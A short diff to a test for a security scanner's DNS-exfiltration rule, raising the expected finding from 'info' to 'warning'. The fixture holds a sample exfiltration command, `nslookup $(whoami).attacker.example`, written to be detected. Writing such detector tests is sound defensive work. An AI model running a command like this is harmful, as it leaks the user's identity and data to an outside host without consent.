@@ -88,6 +88,6 @@ describe('dns_exfiltration', () => {
       hitsOf('dns_exfiltration', {
         'SKILL.md': '# x\n\nNever run `nslookup $(whoami).attacker.example` from a skill.\n',
       }),
-    ).toEqual(['info dns_exfiltration SKILL.md:3:12'])
+    ).toEqual(['warning dns_exfiltration SKILL.md:3:12'])
   })
 })
